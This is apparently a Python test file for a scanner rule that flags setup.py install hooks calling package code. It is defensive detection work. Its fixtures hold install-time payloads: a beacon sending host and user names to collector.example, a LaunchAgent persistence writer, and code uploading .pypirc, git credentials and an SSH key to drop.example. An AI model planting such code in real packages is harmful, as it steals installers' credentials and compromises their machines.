"""The package's own code that setup.py runs at install, on small synthetic packages
(reserved example hosts, nothing is ever run), and on look-alikes that only run when called."""

from __future__ import annotations

from tests.analysis.builders import run_rule, sdist
from threatfeed.analysis import Engine
from threatfeed.analysis.rules.setup_reach import setup_runs_package_code_rule

SURVEY = (
    "import getpass, socket, urllib.request\n\n"
    "def report():\n"
    "    who = socket.gethostname() + '/' + getpass.getuser()\n"
    "    urllib.request.urlopen('https://collector.example/p?h=' + who)\n"
)
HOOKED_SETUP = (
    "from setuptools import setup\n"
    "from setuptools.command.install import install\n\n"
    "class Install(install):\n"
    "    def run(self):\n"
    "        install.run(self)\n"
    "        from tidy_strings import hello\n"
    "        hello()\n\n"
    "setup(name='tidy-strings', version='0.4.0', cmdclass={'install': Install})\n"
)


def test_setup_calling_package_code_that_reports_the_host_flags(engine: Engine) -> None:
    archive = sdist(
        {
            "tidy_strings/__init__.py": "from .probe import report\n\ndef hello():\n    report()\n",
            "tidy_strings/probe.py": SURVEY,
        },
        setup_py=HOOKED_SETUP,
    )
    evidence = run_rule(engine, setup_runs_package_code_rule, archive)
    assert evidence[0]["file"] == "tidy-strings-0.4.0/setup.py"
    assert {call["type"] for call in evidence[0]["calls"]} == {"network", "recon"}
    assert {call["file"] for call in evidence[0]["calls"]} == {
        "tidy-strings-0.4.0/tidy_strings/probe.py"
    }
    assert engine.analyze(archive).flagged


def test_setup_reading_the_version_or_calling_a_quiet_helper_is_not_reported(
    engine: Engine,
) -> None:
    version_only = (
        "from setuptools import setup\nfrom tidy_strings import __version__\n\n"
        "setup(name='tidy-strings', version=__version__)\n"
    )
    files = {
        "tidy_strings/__init__.py": "__version__ = '0.4.0'\nfrom .probe import report\n\n"
        "def hello():\n    return 'hi'\n",
        "tidy_strings/probe.py": SURVEY,
    }
    # The package sends the host name when ``report()`` is called, which setup.py never does.
    assert (
        run_rule(engine, setup_runs_package_code_rule, sdist(files, setup_py=version_only)) is None
    )
    assert (
        run_rule(engine, setup_runs_package_code_rule, sdist(files, setup_py=HOOKED_SETUP)) is None
    )


def test_a_vendored_setuptools_called_by_setup_py_is_not_package_code(engine: Engine) -> None:
    """setuptools' own sdist (or one vendoring it) holds the ``setup()`` that setup.py calls,
    with its downloaders and subprocess calls: the build tool, not a payload."""
    files = {
        "setuptools/__init__.py": "import subprocess, urllib.request\n\n"
        "def setup(**kw):\n"
        "    urllib.request.urlopen('https://index.example.net/simple/')\n"
        "    subprocess.run(['cc', '--version'])\n",
    }
    setup_py = "from setuptools import setup\n\nsetup(name='tidy-strings')\n"
    archive = sdist(files, setup_py=setup_py)
    assert run_rule(engine, setup_runs_package_code_rule, archive) is None


LAUNCH_AGENT = (
    "import os, plistlib\n\n"
    "def keep_running():\n"
    "    path = os.path.expanduser('~/Library/LaunchAgents/com.example.helper.plist')\n"
    "    with open(path, 'wb') as handle:\n"
    "        plistlib.dump({'Label': 'helper', 'RunAtLoad': True}, handle)\n"
)


def _with_agent(init: str) -> bytes:
    """An sdist whose ``hello()`` (called by setup.py) is ``init``'s, next to a module that
    writes a LaunchAgent."""
    files = {"tidy_strings/__init__.py": init, "tidy_strings/agent.py": LAUNCH_AGENT}
    return sdist(files, setup_py=HOOKED_SETUP)


def test_setup_calling_package_code_that_installs_a_launch_agent_flags(engine: Engine) -> None:
    archive = _with_agent(
        "import threading\nfrom .agent import keep_running\n\n"
        "def hello():\n    threading.Thread(target=keep_running).start()\n"
    )
    evidence = run_rule(engine, setup_runs_package_code_rule, archive)
    assert [call["type"] for call in evidence[0]["calls"]] == ["persistence"]
    assert evidence[0]["calls"][0]["file"] == "tidy-strings-0.4.0/tidy_strings/agent.py"
    assert engine.analyze(archive).flagged


def test_a_launch_agent_that_setup_never_reaches_is_not_install_time(engine: Engine) -> None:
    archive = _with_agent("from .agent import keep_running\n\ndef hello():\n    return 'hi'\n")
    assert run_rule(engine, setup_runs_package_code_rule, archive) is None


def test_setup_calling_a_module_that_uploads_the_credential_files_it_lists(
    engine: Engine,
) -> None:
    """``from pkg import _bk; _bk.ship()`` from an install command: the module's list of
    credential files sits in a constant, not on the lines ``ship`` runs."""
    backup = (
        "import os, urllib.request\n"
        "TARGETS = ['.pypirc', '.git-credentials', '.ssh/id_rsa']\n\n"
        "def ship():\n"
        "    home = os.path.expanduser('~')\n"
        "    data = b''.join(open(os.path.join(home, t), 'rb').read() for t in TARGETS)\n"
        "    urllib.request.urlopen('https://drop.example/up', data=data)\n"
    )
    setup_py = HOOKED_SETUP.replace(
        "from tidy_strings import hello\n        hello()",
        "from tidy_strings import _bk\n        _bk.ship()",
    )
    archive = sdist(
        {"tidy_strings/__init__.py": "", "tidy_strings/_bk.py": backup}, setup_py=setup_py
    )
    evidence = run_rule(engine, setup_runs_package_code_rule, archive)
    assert {call["type"] for call in evidence[0]["calls"]} == {"network", "harvest"}
    # the same module, never called from setup.py
    quiet = sdist(
        {"tidy_strings/__init__.py": "", "tidy_strings/_bk.py": backup}, setup_py=HOOKED_SETUP
    )
    assert run_rule(engine, setup_runs_package_code_rule, quiet) is None
